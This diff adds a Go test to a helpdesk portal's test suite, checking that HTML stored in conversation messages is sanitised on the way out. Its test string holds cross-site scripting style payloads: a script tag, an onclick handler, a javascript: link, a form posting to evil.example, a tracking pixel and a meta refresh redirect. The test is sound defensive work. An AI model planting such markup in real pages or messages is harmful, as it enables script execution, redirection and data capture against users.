@@ -1,12 +1,17 @@
 package portal_test
 
 import (
+	"context"
 	"testing"
+
+	"github.com/google/uuid"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/helpdeskkit/portal"
+	"github.com/helpdeskkit/portal/portaltest"
+	"github.com/helpdeskkit/portal/store/memstore"
 )
 
 // The reply allow-list keeps formatting and safe links and drops the rest;
@@ -60,4 +65,35 @@ func TestSanitizeReply(t *testing.T) {
 		require.ErrorAs(t, err, &ve, in)
 		assert.True(t, ve.Has("html"), in)
 	}
+}
+
+// A message the helpdesk stored as it came (a received mail, an agent's
+// message) reaches the contact only as the conversation allow-list keeps
+// it: nothing in it can run, redirect, submit or load from elsewhere.
+// covers: P4, S9
+func TestConversationBodiesAreSanitisedOnTheWayOut(t *testing.T) {
+	ctx := context.Background()
+	d := newDemo(t, memstore.New(), nil)
+	detail, err := d.p.TicketDetail(ctx, d.viewer, d.ticket)
+	require.NoError(t, err)
+	require.NotEqual(t, uuid.Nil, detail.ThreadID)
+	hostile := `<p>Hello</p><script>alert(1)</script><p onclick="steal()">click</p>` +
+		`<a href="javascript:alert(2)">js</a><form action="https://evil.example"><input name=p></form>` +
+		`<img src="https://tracker.example/pixel.gif"><meta http-equiv="refresh" content="0;url=https://evil.example">` +
+		`<style>body{display:none}</style><table><tr><td colspan="2">cell</td></tr></table>` +
+		`<a href="https://example.com/help">help</a>`
+	_, err = d.p.AddMessage(ctx, portal.Message{PortalID: d.data.Tenant.ID, ThreadID: detail.ThreadID,
+		Kind: portal.AgentMessage, From: "agent@" + portaltest.AgentDomain, Body: hostile, Text: "Hello"})
+	require.NoError(t, err)
+	detail, err = d.p.TicketDetail(ctx, d.viewer, d.ticket)
+	require.NoError(t, err)
+	body := detail.Conversation[len(detail.Conversation)-1].Body
+	for _, bad := range []string{"<script", "alert(1)", "onclick", "javascript:", "<form", "<input", "<img", "tracker.example",
+		"<meta", "refresh", "<style", "display:none"} {
+		assert.NotContains(t, body, bad)
+	}
+	assert.Contains(t, body, "<p>Hello</p>")
+	assert.Contains(t, body, `<td colspan="2">cell</td>`, "the helpdesk's tables stay")
+	assert.Contains(t, body, `<a href="https://example.com/help" rel="nofollow noreferrer noopener" target="_blank">help</a>`)
+	assert.Equal(t, portal.SanitizeConversation(hostile), body)
 }
